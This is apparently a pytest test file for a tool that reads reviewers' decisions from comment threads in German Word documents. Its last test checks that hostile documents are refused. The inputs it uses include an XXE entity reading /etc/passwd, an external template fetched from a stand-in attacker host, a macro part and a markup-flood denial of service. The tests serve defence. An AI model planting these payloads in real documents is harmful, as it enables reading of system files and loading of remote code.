"""Decisions in the comments of a Word document: threads as Word writes them, and what LibreOffice
leaves of them."""

import pytest

from app.drafts.readers.refusals import Unreadable
from app.groups.returning.docx.reading import read_document, read_here
from app.groups.returning.docx.spoken import spoken
from app.groups.writers import docx
from app.models import Decision
from tests.groups.coming_back import Paper
from tests.groups.sample import bundle, note, written


@pytest.fixture
def paper() -> Paper:
    """Notes 87 and 88 hang on the same sentence, 91 and 92 alone."""
    notes = [note(87), note(88), note(91, "HF2 · 3"), note(92, "HF2 · 2.1")]
    return Paper.of(written(docx.write, bundle(notes)))


def read(paper: Paper):
    return read_here("comments.docx", paper.saved())


def decided(paper: Paper) -> dict[int, tuple[Decision | None, str]]:
    rows = [row for row in read(paper).rows if not row.faults]
    return {row.number: (row.said.decision, row.said.reason) for row in rows}


def faults(paper: Paper) -> list[tuple[str, str]]:
    rows = [row for row in read(paper).rows if row.faults]
    return [(row.faults[0]["key"], row.faults[0].get("words", "")) for row in rows]


@pytest.mark.parametrize(
    ("said", "numbers", "decision", "reason"),
    [
        ("#87: übernommen, Begründung: Das stimmt.", (87,), Decision.ADOPTED, "Das stimmt."),
        ("87 – teilweise übernommen: Nur abends.", (87,), Decision.PARTLY_ADOPTED, "Nur abends."),
        (
            "zu #87, #88: nicht übernommen, weil es zu teuer ist.",
            (87, 88),
            Decision.NOT_ADOPTED,
            "weil es zu teuer ist.",
        ),
        ("#7, 8 und 9: zur Kenntnis genommen", (7, 8, 9), Decision.NOTED, ""),
        ("Adopted: yes", (), Decision.ADOPTED, "yes"),
        ("z. K.", (), Decision.NOTED, ""),
        ("übernommen wird das nicht", (), None, ""),
        ("Übernommen? Das verstehe ich nicht.", (), None, ""),
        ("2016 war gut", (), None, ""),
        ("#87 bitte noch prüfen", (87,), None, ""),
    ],
)
def test_a_decision_stands_at_the_beginning_behind_the_numbers(said, numbers, decision, reason):
    heard = spoken(said)
    assert (heard.numbers, heard.said.decision, heard.said.reason) == (numbers, decision, reason)


def test_lines_with_labels_fill_the_other_columns():
    heard = spoken(
        "#87: nicht zuständig\nBegründung: Das regelt\ndas Land.\nWeitergegeben an: Land\n"
        "Maßnahme: Brief\nIntern: telefoniert\nNeuer Wortlaut: A. B."
    ).said
    assert heard.reason == "Das regelt\ndas Land."
    assert (heard.passed_on_to, heard.measure, heard.remark) == ("Land", "Brief", "telefoniert")
    assert heard.new_wording == "A. B."
    short = spoken("#87: weitergegeben an das Schulamt: Es ist zuständig.").said
    assert (short.passed_on_to, short.reason) == ("das Schulamt", "Es ist zuständig.")


def test_of_several_answers_in_a_thread_the_last_decision_counts_and_chatter_is_listed(paper):
    ours = paper.number(87)
    first = paper.say("Übernommen.", answers=ours, date="2016-11-12T10:00:00Z")
    paper.say("Sicher? Das kostet viel.", answers=first, date="2016-11-12T10:05:00Z")
    paper.say("Nicht übernommen: Zu teuer.", answers=ours, date="2016-11-12T10:10:00Z")

    assert decided(paper) == {87: (Decision.NOT_ADOPTED, "Zu teuer.")}
    assert faults(paper) == [
        ("said_again", "Übernommen."),
        ("not_a_decision", "Sicher? Das kostet viel."),
    ]


def test_our_own_comments_decide_nothing_whatever_a_resident_wrote():
    text = "Gut.\n#88: übernommen, so soll es sein.\nÜbernommen."
    paper = Paper.of(written(docx.write, bundle([note(87, text=text), note(88)])))
    assert read(paper).rows == []


def test_a_comment_without_a_thread_counts_where_only_one_of_ours_hangs_on_the_same_words(paper):
    paper.say("Übernommen.", on=91)
    paper.say("Übernommen, gern.", on=87)
    paper.say("#92: Schon enthalten: In Absatz 3.", at="Ein Lotse hilft.")
    paper.say("Abgelehnt.", at="Karte der zwölf Kursorte.")

    assert decided(paper) == {
        91: (Decision.ADOPTED, ""),
        92: (Decision.ALREADY_COVERED, "In Absatz 3."),
    }
    assert faults(paper) == [("which_note", "Übernommen, gern."), ("no_note", "Abgelehnt.")]
    assert read(paper).rows[1].faults[0]["notes"] == [87, 88]


def test_a_comment_that_was_only_ticked_off_is_said_as_such(paper):
    paper.tick(91).tick(92)
    paper.say("Übernommen.", answers=paper.number(92))
    assert decided(paper) == {92: (Decision.ADOPTED, "")}
    assert [row.faults[0] for row in read(paper).rows if row.faults] == [
        {"key": "only_resolved", "n": 91}
    ]


def test_a_thread_that_bites_its_tail_is_read_to_its_end(paper):
    one = paper.say("Übernommen.", answers=paper.number(91))
    other = paper.say("Ja.", answers=one)
    paper.threads.append((paper._named(one), paper._named(other), False))
    assert decided(paper) == {91: (Decision.ADOPTED, "")}


def test_the_document_says_which_bundle_it_is_and_is_read_in_a_process_of_its_own(paper):
    paper.say("#91: übernommen.", on=91)
    brought = read_document("comments.docx", paper.saved())
    assert brought.bundle_key == "randnotiz:bundle:integrationskonzept:deutscherwerb:3"
    assert [(row.number, row.said.decision) for row in brought.rows] == [(91, Decision.ADOPTED)]


def test_a_document_with_two_thousand_comments_is_read_whole():
    paper = Paper.of(written(docx.write, bundle([note(n) for n in range(1, 1001)])))
    comments = "".join(
        f'<w:comment w:id="{5000 + n}" w:author="C"><w:p><w:r><w:t>#{n}: übernommen.</w:t></w:r>'
        "</w:p></w:comment>"
        for n in range(1, 1001)
    )
    paper.comments = paper.comments.replace("</w:comments>", f"{comments}</w:comments>")
    rows = read(paper).rows
    assert [row.number for row in rows] == list(range(1, 1001))
    assert {row.said.decision for row in rows} == {Decision.ADOPTED}


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (lambda p: p.parts.update({"word/vbaProject.bin": b"x"}), "Makros"),
        (
            lambda p: p.parts.update(
                {
                    "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.'
                    b'openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
                    b'Type="http://x/attachedTemplate" Target="http://boese.example/a.dotm" '
                    b'TargetMode="External"/></Relationships>'
                }
            ),
            "von anderswo",
        ),
        (
            lambda p: setattr(
                p, "comments", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + p.comments
            ),
            "DTD",
        ),
        (lambda p: setattr(p, "body", p.body[:-40]), "kein gültiges XML"),
        (lambda p: setattr(p, "body", p.body.replace("<w:body>", "<w:body>" + "<w:x/>" * 10**6)),
         "Auszeichnungen"),
    ],
)  # fmt: skip
def test_a_document_that_could_do_harm_is_refused_in_a_sentence(paper, change, sentence):
    change(paper)
    with pytest.raises(Unreadable, match=sentence):
        read(paper)
